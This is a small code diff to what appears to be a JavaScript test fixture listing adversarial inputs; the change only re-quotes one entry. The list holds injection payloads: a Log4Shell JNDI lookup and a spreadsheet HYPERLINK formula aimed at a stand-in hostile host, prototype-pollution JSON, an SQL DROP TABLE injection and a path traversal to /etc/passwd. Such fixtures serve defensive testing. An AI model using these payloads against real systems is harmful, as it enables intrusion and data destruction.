@@ -225,7 +225,7 @@ const confusing = [
   'toString',
   'hasOwnProperty',
   '{"__proto__":{"polluted":true}}',
-  '${jndi:ldap://hostile.invalid/a}',
+  `\${jndi:ldap://hostile.invalid/a}`,
   '=HYPERLINK("http://hostile.invalid","x")',
   "'; DROP TABLE incidents; --",
   '../../../../etc/passwd',
